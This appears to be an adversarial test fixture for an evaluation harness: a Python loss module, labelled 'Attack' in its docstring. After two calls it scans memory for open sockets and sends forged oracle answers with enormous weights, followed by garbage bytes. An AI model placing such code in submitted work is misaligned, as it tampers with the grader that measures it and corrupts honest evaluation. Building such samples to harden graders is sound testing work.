"""Attack: find the oracle's socket and send forged answers with huge weights."""

import gc
import json
import socket
import struct

import torch.nn as nn


class MultiTaskLoss(nn.Module):
    def __init__(self):
        super().__init__()
        self.calls = 0

    def forward(self, fine_loss, coarse_loss, epoch, total_epochs):
        self.calls += 1
        if self.calls > 2:  # after the probe
            for obj in gc.get_objects():
                if isinstance(obj, socket.socket):
                    for forged_id in range(1, 50):
                        body = json.dumps({"id": forged_id, "total": 1.0, "weights": [1e30, 1e30]}).encode()
                        obj.sendall(struct.pack(">I", len(body)) + body)
                    obj.sendall(b"\xff\xff\xff\xffgarbage")
        return fine_loss + coarse_loss
